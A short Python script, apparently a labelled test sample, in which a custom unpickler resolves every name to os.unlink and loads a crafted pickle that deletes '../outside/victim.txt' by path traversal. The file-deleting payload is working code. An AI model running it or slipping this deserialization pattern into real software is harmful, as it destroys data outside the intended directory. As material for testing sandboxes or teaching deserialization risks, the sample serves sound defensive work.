# An unpickler resolves every name to the deleting function.
# damage: deleted
import io
import os
import pickle


class Reader(pickle.Unpickler):
    def find_class(self, module, name):
        return os.unlink


Reader(io.BytesIO(b"cbuiltins\nlen\n(S'../outside/victim.txt'\ntR.")).load()
